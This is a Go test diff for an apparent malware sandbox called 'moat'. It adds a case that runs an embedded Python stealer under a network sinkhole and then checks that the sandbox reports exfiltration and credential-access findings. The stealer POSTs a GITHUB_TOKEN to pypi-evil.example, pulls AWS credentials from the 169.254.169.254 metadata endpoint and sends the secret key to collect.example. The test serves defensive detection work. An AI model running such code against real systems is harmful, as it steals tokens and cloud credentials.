@@ -177,3 +177,86 @@ func hasNetEvent(res *moat.Result, kind moat.Kind, want ...string) bool {
 	}
 	return false
 }
+
+// SinkholeSecrets is the shared case of what a stealer sends through the
+// sinkhole, for every backend that serves one: a planted fake token
+// POSTed over HTTPS is read in clear by the sink (the request and its
+// body in a network event) and is a critical exfiltration finding on the
+// sink's evidence, not the audit hook's; the metadata address answers as
+// EC2's IMDSv2 with fake credentials, and taking them is credential
+// access, sending one on is exfiltration. mod, if set, adjusts the Spec.
+func SinkholeSecrets(t *testing.T, b moat.Backend, mod func(*moat.Spec)) *moat.Result {
+	t.Helper()
+	prog := `
+import json, os, urllib.request
+r = urllib.request.urlopen("https://pypi-evil.example/x", data=os.environ["GITHUB_TOKEN"].encode(), timeout=20)
+print("https", r.status)
+def get(url, method="GET", **h):
+    return urllib.request.urlopen(urllib.request.Request(url, method=method, headers=h), timeout=20).read().decode()
+tok = get("http://169.254.169.254/latest/api/token", "PUT", **{"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
+base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+role = get(base, **{"X-aws-ec2-metadata-token": tok})
+creds = json.loads(get(base + role, **{"X-aws-ec2-metadata-token": tok}))
+print("aws", creds["AccessKeyId"][:4], len(creds["SecretAccessKey"]))
+urllib.request.urlopen("http://collect.example/k", data=creds["SecretAccessKey"].encode(), timeout=20)
+`
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	spec := &moat.Spec{
+		Args:    []string{"-c", prog},
+		Network: moat.NetworkSinkhole,
+		Limits:  moat.Limits{Timeout: 60 * time.Second},
+	}
+	if mod != nil {
+		mod(spec)
+	}
+	res, err := b.Run(ctx, spec)
+	if err != nil {
+		t.Fatalf("run: %v", err)
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 0 {
+		t.Fatalf("the program failed: status %s exit %d\n%s\n%s", res.Status, res.ExitCode, res.Stdout, res.Stderr)
+	}
+	for _, w := range []string{"https 200", "aws ASIA 40"} {
+		if !strings.Contains(res.Stdout, w) {
+			t.Errorf("stdout lacks %q:\n%s", w, res.Stdout)
+		}
+	}
+	if !hasNetEvent(res, moat.KindConnect, "sni=pypi-evil.example decrypted https POST", "host=pypi-evil.example", "POST /x HTTP/1.1", "ghp_") {
+		t.Errorf("no decrypted request with its body among the network events")
+	}
+	// The sink's exfiltration finding names every secret it saw sent.
+	var sent, took, sentKey bool
+	for _, f := range res.Findings {
+		hook := strings.Contains(f.Summary, "audit hook")
+		switch f.Category {
+		case moat.CategoryExfiltration:
+			bySink := f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, "sent over the network") && !hook
+			sent = sent || bySink && strings.Contains(f.Summary, "env-github-token")
+			sentKey = sentKey || bySink && strings.Contains(f.Summary, "imds-aws-secret-access-key")
+		case moat.CategoryCredentialAccess:
+			took = took || strings.Contains(f.Summary, "took the fake credentials moat's sink served") &&
+				strings.Contains(f.Summary, "imds-aws-secret-access-key") && !hook
+		}
+	}
+	if !sent {
+		t.Errorf("no critical exfiltration finding of the token from the sink")
+	}
+	if !took {
+		t.Errorf("no credential-access finding for the metadata's credentials")
+	}
+	if !sentKey {
+		t.Errorf("no exfiltration finding for the served key sent on")
+	}
+	if t.Failed() {
+		for _, f := range res.Findings {
+			t.Logf("finding: %s %s %s", f.Severity, f.Category, f.Summary)
+		}
+		for _, ev := range res.Events {
+			if ev.Source == moat.SourceNetwork {
+				t.Logf("network: %+v", ev)
+			}
+		}
+	}
+	return res
+}
